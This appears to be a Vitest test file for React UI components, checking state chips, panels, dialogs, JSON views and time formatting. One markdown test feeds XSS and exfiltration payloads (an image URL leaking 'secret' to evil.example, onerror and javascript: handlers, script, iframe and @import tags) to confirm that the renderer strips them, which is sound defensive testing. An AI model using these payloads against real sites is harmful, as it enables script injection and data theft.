import { MantineProvider } from "@mantine/core";
import { fireEvent, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import type { ReactNode } from "react";
import { describe, expect, it, vi } from "vitest";
import { ConfirmDialog } from "./ConfirmDialog";
import { duration } from "./Duration";
import { JsonView } from "./JsonView";
import { Markdown as LoadedMarkdown } from "./Markdown";
import { MarkdownBody as Markdown } from "./MarkdownBody";
import { Panel } from "./Panel";
import { RelativeTime } from "./RelativeTime";
import { SlotOutlet, SlotProvider, TopBarSlot } from "./Slots";
import { StateChip } from "./StateChip";
import { theme } from "./theme";

function show(node: ReactNode) {
  return render(<MantineProvider theme={theme}>{node}</MantineProvider>);
}

describe("a state chip", () => {
  it.each([
    ["resting", "Resting"],
    ["waiting", "Waiting for a person"],
    ["done", "Done"],
    ["cancelled", "Cancelled"],
  ] as const)("says %s in words and by an icon, not by colour alone", (kind, word) => {
    const { container } = show(<StateChip kind={kind} />);
    expect(screen.getByText(word)).toBeTruthy();
    expect(container.querySelector("svg")).not.toBeNull();
  });

  it("tells how long something has been working", () => {
    show(<StateChip kind="working" since={Date.now() - 83_000} />);
    expect(screen.getByText(/^1:2[34]$/)).toBeTruthy();
  });

  it("tells why something failed, all of it on hover", () => {
    show(<StateChip kind="failed" reason="The model server answered 502" />);
    expect(screen.getByTitle("Failed: The model server answered 502")).toBeTruthy();
  });
});

describe("markdown", () => {
  it("asks no other server for anything and runs nothing", () => {
    const { container } = show(
      <Markdown
        text={[
          "![a](https://evil.example/?d=secret) <img src=x onerror=alert(1)>",
          "[x](javascript:alert(1)) [y](data:text/html,1) <script>alert(1)</script>",
          "<iframe src=https://evil.example></iframe> <style>@import 'https://evil.example'</style>",
        ].join("\n\n")}
      />,
    );
    expect(
      container.querySelector("img, script, iframe, style:not([data-mantine-styles])"),
    ).toBeNull();
    expect(container.querySelector("a")).toBeNull();
    expect(container.textContent).toContain("[image left out: a]");
  });

  it("opens links elsewhere, without saying where they were found", () => {
    show(<Markdown text="[a page](https://example.org)" />);
    const link = screen.getByRole("link", { name: "a page" });
    expect(link.getAttribute("rel")).toContain("noopener noreferrer");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  it("shows no raw marks, neither before it is loaded nor then", async () => {
    const { container } = show(<LoadedMarkdown text="Everything here is a **task**." />);
    expect(container.querySelector("strong")).toBeNull();
    expect(container.textContent).toContain("Everything here is a task.");
    await waitFor(() => expect(container.querySelector("strong")?.textContent).toBe("task"));
    expect(container.textContent).toContain("Everything here is a task.");
  });

  it("copies code as it was written", async () => {
    const person = userEvent.setup();
    show(<Markdown text={'```python\nprint("hi")\n```'} />);
    await person.click(screen.getByRole("button", { name: "Copy" }));
    expect(await navigator.clipboard.readText()).toBe('print("hi")');
    expect(screen.getByRole("button", { name: "Copied" })).toBeTruthy();
  });
});

describe("a panel", () => {
  it("is resized by arrow keys within its limits, and remembers", () => {
    const panel = (
      <Panel name="test" side="left" title="Palette" open onClose={() => {}} size={300} max={320}>
        inside
      </Panel>
    );
    const { unmount } = show(panel);
    const grip = screen.getByRole("separator", { name: "Resize Palette" });
    for (let press = 0; press < 5; press += 1) fireEvent.keyDown(grip, { key: "ArrowRight" });
    expect(grip.getAttribute("aria-valuenow")).toBe("320");
    unmount();
    show(panel);
    expect(screen.getByRole("separator").getAttribute("aria-valuenow")).toBe("320");
  });

  it("hides on Enter and by its button", async () => {
    const onClose = vi.fn();
    show(
      <Panel name="hidden" side="right" title="Inspector" open onClose={onClose} size={300}>
        inside
      </Panel>,
    );
    fireEvent.keyDown(screen.getByRole("separator"), { key: "Enter" });
    await userEvent.click(screen.getByRole("button", { name: "Hide" }));
    expect(onClose).toHaveBeenCalledTimes(2);
  });
});

it("a dialog that was refused stays and says why", async () => {
  const onClose = vi.fn();
  show(
    <ConfirmDialog
      open
      onClose={onClose}
      title="Delete?"
      confirm="Delete"
      onConfirm={() => Promise.reject(new Error("It is in use. End it first."))}
    >
      Gone for good.
    </ConfirmDialog>,
  );
  await userEvent.click(await screen.findByRole("button", { name: "Delete" }));
  expect((await screen.findByRole("alert")).textContent).toBe("It is in use. End it first.");
  expect(onClose).not.toHaveBeenCalled();
});

it("JSON opens where one looks, a hundred entries at a time", async () => {
  show(<JsonView value={{ list: Array.from({ length: 250 }, (_, index) => index) }} depth={1} />);
  expect(screen.queryByText("7")).toBeNull();
  fireEvent.click(screen.getByText("250 items"));
  const details = screen.getByText("250 items").closest("details");
  if (details) {
    details.open = true;
    fireEvent(details, new Event("toggle"));
  }
  expect(await screen.findByText("150 more")).toBeTruthy();
});

it("a page fills the top bar while it is shown, and leaves it empty", () => {
  const bar = (page: ReactNode) => (
    <MantineProvider>
      <SlotProvider>
        <header>
          <SlotOutlet name="run" />
        </header>
        {page}
      </SlotProvider>
    </MantineProvider>
  );
  const { rerender } = render(bar(<TopBarSlot name="run">Run it</TopBarSlot>));
  expect(screen.getByRole("banner").textContent).toBe("Run it");
  rerender(bar(null));
  expect(screen.getByRole("banner").textContent).toBe("");
});

it("lengths of time are short", () => {
  expect(duration(8_400)).toBe("8 s");
  expect(duration(200_000)).toBe("3:20");
  expect(duration(3_740_000)).toBe("1:02:20");
});

it("moments are said as people say them", () => {
  show(<RelativeTime at={Date.now() - 3 * 60_000} />);
  expect(screen.getByText("3 minutes ago")).toBeTruthy();
});
